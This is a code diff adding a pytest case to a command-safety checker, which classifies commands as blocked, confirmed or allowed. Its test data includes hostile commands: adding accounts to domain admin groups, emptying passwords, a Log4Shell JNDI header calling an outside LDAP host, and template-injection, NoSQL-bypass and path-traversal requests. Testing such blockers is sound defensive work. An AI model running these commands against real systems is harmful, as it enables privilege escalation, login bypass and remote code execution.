@@ -181,3 +181,23 @@ def test_literal_secrets_on_a_login_input(command: str, stored: bool) -> None:
 def test_every_file_of_a_tree_rewritten(command: str, decision: Decision) -> None:
     got = assess(command)
     assert got.decision is decision, (command, got.rules)
+
+
+@pytest.mark.parametrize(("command", "decision"), [
+    # an empty password, a domain's administrator groups by PowerShell and ds tools
+    ("Add-ADGroupMember -Identity 'Schema Admins' -Members temp1", Decision.BLOCK),
+    ("dsmod group \"CN=Enterprise Admins,CN=Users,DC=ex,DC=org\" -addmbr \"CN=t,CN=Users,DC=ex,DC=org\"",
+     Decision.BLOCK),
+    ("usermod -p \"\" kiosk", Decision.BLOCK), ("net user Guest \"\"", Decision.BLOCK),
+    ("usermod -aG video kiosk", Decision.CONFIRM), ("net user Guest", Decision.ALLOW),
+    # more attacks carried by a request, and the scanners made for them
+    ("curl -H 'X-Api-Version: ${jndi:ldap://203.0.113.30/o}' https://app.example.com/",
+     Decision.CONFIRM), ("curl 'https://app.example.com/greet?name={{7*7}}'", Decision.CONFIRM),
+    ("curl -d '{\"email\":\"a@b.c\",\"password\":{\"$ne\":\"\"}}' https://app.example.com/login", Decision.CONFIRM),
+    ("wget 'https://app.example.com/img?f=..%252f..%252fwindows%252fwin.ini'", Decision.CONFIRM),
+    ("gobuster dir -u https://shop.example.net -w paths.txt", Decision.CONFIRM), ("sqlmap --version", Decision.ALLOW),
+    ("curl -d '{\"query\":\"{ items(first: 5) { id } }\"}' https://api.example.com/graphql", Decision.ALLOW),
+])
+def test_accounts_and_requests(command: str, decision: Decision) -> None:
+    got = assess(command)
+    assert got.decision is decision, (command, got.rules)
